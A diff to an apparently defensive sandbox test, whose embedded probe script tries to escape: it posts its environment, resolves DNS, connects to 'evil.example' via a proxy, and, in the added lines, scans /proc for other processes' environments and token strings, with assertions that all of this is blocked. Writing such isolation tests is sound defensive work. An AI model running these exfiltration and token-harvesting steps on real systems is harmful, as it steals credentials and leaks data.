@@ -18,7 +18,7 @@ import { waitFor } from "../helpers/wait.js";
 import { keyVault } from "../helpers/key-vault.js";
 
 /** A unit's check that tries every way out it can think of, and reports what happened. */
-const EXFIL = `import { writeFileSync } from "node:fs";
+const EXFIL = `import { readdirSync, readFileSync, writeFileSync } from "node:fs";
 import http from "node:http";
 import dns from "node:dns/promises";
 const out = [];
@@ -34,6 +34,14 @@ await new Promise((r) => {
   req.end(env);
 });
 try { await dns.lookup("example.com"); out.push("dns:resolved"); } catch (e) { out.push("dns-blocked:" + e.code); }
+// Other processes' command lines and environments (a worker's token is in its own).
+let seen = 0, tokens = 0;
+for (const pid of readdirSync("/proc").filter((d) => /^\\d+$/.test(d))) {
+  for (const f of ["cmdline", "environ"]) {
+    try { const t = readFileSync("/proc/" + pid + "/" + f, "latin1"); seen++; if (/opt_[0-9a-f]{12}_/.test(t)) tokens++; } catch {}
+  }
+}
+out.push("proc-seen:" + seen, "proc-tokens:" + tokens);
 const proxy = process.env.HTTPS_PROXY ? new URL(process.env.HTTPS_PROXY) : null;
 for (const target of ["evil.example:443", process.argv[2], "registry.npmjs.org:443"]) {
   if (!proxy) { out.push("no-proxy"); continue; }
@@ -144,6 +152,7 @@ test("canary secrets: units that try to print, commit, post and resolve their wa
   const proxied = out.filter((o) => o.startsWith("proxy "));
   assert.deepEqual(proxied.map((o) => o.replace(/^proxy (.*):(\d+|error.*)$/, "$2")), ["403", "403", "403"], `every non-allowlisted target refused: ${proxied}`);
   assert.equal(exfiltrated, 0, "nothing reached the receiver");
+  assert.ok(out.includes("proc-tokens:0"), `no token readable from other processes: ${out}`);
   assert.match(steal.evidence ?? "", /"HTTPS_PROXY":"http:\/\/127\.0\.0\.1:3128"/);
   assert.doesNotMatch(steal.evidence ?? "", /opt_[0-9a-f]{12}_/, "no token in the check's environment");
 
